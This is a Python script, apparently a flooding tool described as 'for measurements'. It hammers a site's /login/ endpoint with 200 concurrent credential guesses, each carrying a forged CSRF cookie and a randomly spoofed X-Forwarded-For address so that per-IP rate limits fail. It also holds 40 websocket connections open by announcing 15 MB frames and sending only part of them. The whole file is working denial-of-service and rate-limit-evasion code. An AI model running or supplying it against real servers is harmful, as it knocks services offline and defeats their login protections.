"""A flood at the doors, for measurements: log-ins side by side, socket messages that never end.

Run as a process of its own, `-m config.flood URL TOKEN`, until it is ended; it prints what it has
done. Each asks from another network, so that no limit of one stops it.
"""

import asyncio
import base64
import os
import random
import sys
from collections import Counter
from urllib.parse import urlencode, urlsplit

LOG_INS, SOCKETS = 200, 40
MESSAGE_BYTES = 15 * 1024 * 1024  # as a frame's head says; a part of it is sent
SENT_BYTES = 60 * 1024
CSRF = "f" * 32
TOLD_EVERY_S = 5.0


class Flood:
    def __init__(self, url: str, token: str) -> None:
        parts = urlsplit(url)
        self.host, self.port, self.token = parts.hostname, parts.port, token
        self.done: Counter[str] = Counter()

    async def run(self) -> None:
        many = [self._log_in_again(n) for n in range(LOG_INS)]
        await asyncio.gather(*many, *(self._hang_again() for _n in range(SOCKETS)), self._tell())

    async def _log_in_again(self, number: int) -> None:
        """Guess at a name, ever another, wait for the answer, guess again."""
        while True:
            name = f"name-{number}-{random.randrange(10**6)}"
            form = {"username": name, "password": "guess", "csrfmiddlewaretoken": CSRF}
            body = urlencode(form).encode()
            head = [
                *("POST /login/ HTTP/1.1", f"Host: {self.host}", f"Cookie: csrftoken={CSRF}"),
                *("Content-Type: application/x-www-form-urlencoded", "Connection: close"),
                *(f"Content-Length: {len(body)}", f"X-Forwarded-For: {_network()}", "", ""),
            ]
            try:
                answer = await self._asked("\r\n".join(head).encode() + body)
                self.done[f"log-in {answer[9:12].decode(errors='replace')}"] += 1
            except OSError:
                self.done["log-in broke off"] += 1
            await asyncio.sleep(0.5)

    async def _asked(self, raw: bytes) -> bytes:
        reader, writer = await asyncio.open_connection(self.host, self.port)
        try:
            writer.write(raw)
            return await reader.read()
        finally:
            writer.close()

    async def _hang_again(self) -> None:
        """Begin a large message on a live page's socket, and leave it there."""
        while True:
            try:
                await self._hang()
            except OSError:
                self.done["socket broke off"] += 1
            await asyncio.sleep(0.5)

    async def _hang(self) -> None:
        reader, writer = await asyncio.open_connection(self.host, self.port)
        key = base64.b64encode(os.urandom(16)).decode()
        head = [
            *(f"GET /live/{self.token} HTTP/1.1", f"Host: {self.host}", "Upgrade: websocket"),
            *("Connection: Upgrade", "Sec-WebSocket-Version: 13", f"Sec-WebSocket-Key: {key}"),
            *(f"X-Forwarded-For: {_network()}", "", ""),
        ]
        try:
            writer.write("\r\n".join(head).encode())
            answer = await reader.readuntil(b"\r\n\r\n")
            self.done[f"socket {answer[9:12].decode(errors='replace')}"] += 1
            # A text, masked, whose length is told in eight bytes.
            writer.write(b"\x81\xff" + MESSAGE_BYTES.to_bytes(8) + bytes(4) + bytes(SENT_BYTES))
            await writer.drain()
            await reader.read()  # until the server hangs up
        except asyncio.IncompleteReadError:
            self.done["socket broke off"] += 1
        finally:
            writer.close()

    async def _tell(self) -> None:
        while True:
            await asyncio.sleep(TOLD_EVERY_S)
            told = ", ".join(f"{what} × {n}" for what, n in sorted(self.done.items()))
            print(told, flush=True)


def _network() -> str:
    return ".".join(str(random.randrange(1, 255)) for _part in range(4))


if __name__ == "__main__":
    asyncio.run(Flood(sys.argv[1], sys.argv[2]).run())
